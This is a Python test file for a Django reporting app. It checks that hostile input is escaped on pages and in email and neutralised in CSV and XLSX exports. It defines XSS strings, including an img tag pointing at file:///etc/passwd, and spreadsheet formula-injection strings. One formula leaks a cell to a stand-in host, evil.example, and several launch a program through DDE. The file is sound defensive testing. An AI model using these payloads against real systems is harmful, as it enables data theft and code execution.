"""Hostile text people type: shown as text on every page and in email, and never a formula in a
spreadsheet export. (PDF reports: tests/reporting/test_reports_safety.py shows that such text
is printed as text and that a report fetches no file:// or http:// address.)"""

import csv
import io

import pytest
from django.core import mail
from openpyxl import load_workbook

from reporting.reminders.tasks import queue_due_reminders
from tests.reporting.reports_setup import small_plan

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script>'
IMAGE = '<img src="file:///etc/passwd" onerror="alert(1)">'
HTML = SCRIPT + IMAGE
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    '+1+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture
def hostile(agency, other_agency):
    """The small plan with hostile text in an action title and in every text of two updates."""
    setup = small_plan(agency, other_agency)
    for number in ("1", "3b"):
        setup.actions[number].title = f"Border {HTML}"
        setup.actions[number].save()
    first = setup.updates[("1", "customs", "2026-Q3")]
    first.commentary, first.risks, first.next_steps = HTML, FORMULAS[0], FORMULAS[1]
    first.save()
    second = setup.updates[("3a", "customs", "2026-Q3")]
    second.commentary, second.risks = FORMULAS[2], FORMULAS[3]
    second.save()
    return setup


def assert_shown_as_text(page: str) -> None:
    assert SCRIPT not in page
    assert "<img src=" not in page
    assert "&lt;script&gt;" in page


def test_hostile_text_is_shown_as_text_on_the_pages_that_show_it(
    hostile, client_for, secretariat_user, other_lead
):
    update = hostile.updates[("1", "customs", "2026-Q3")]
    secretariat = client_for(secretariat_user)
    pages = {
        "update": f"/updates/{update.pk}/",
        "action": "/plans/tsoc-test-plan/actions/1/",
        "plan": "/plans/tsoc-test-plan/",
        "period": "/periods/2026-Q3/",
        "dashboard": "/dashboard/tsoc-test-plan/",
    }
    for name, path in pages.items():
        response = secretariat.get(path)
        assert response.status_code == 200, name
        assert_shown_as_text(response.content.decode())

    my_actions = client_for(other_lead).get("/my-actions/")
    assert_shown_as_text(my_actions.content.decode())


def test_the_api_csv_neutralises_every_cell_a_spreadsheet_would_run(
    hostile, client_for, secretariat_user
):
    response = client_for(secretariat_user).get("/api/v1/status-updates/?format=csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for formula in FORMULAS:
        assert "'" + formula in cells  # still there to read, as text


def test_the_updates_spreadsheet_holds_hostile_text_as_text_not_formulas(
    hostile, client_for, secretariat_user
):
    response = client_for(secretariat_user).get("/dashboard/tsoc-test-plan/2026-Q3/updates.xlsx")

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert set(FORMULAS) <= texts


def test_an_email_shows_hostile_text_as_text(
    hostile, other_lead, django_capture_on_commit_callbacks
):
    # Police's return on TSOC 3b is a draft, so its lead is told when returns open.
    with django_capture_on_commit_callbacks(execute=True):
        queue_due_reminders(today=hostile.period.opens_on)

    (message,) = [message for message in mail.outbox if message.to == [other_lead.email]]
    html = next(body for body, mimetype in message.alternatives if mimetype == "text/html")
    assert_shown_as_text(html)
    assert HTML in message.body  # the plain-text part is plain text: nothing to escape
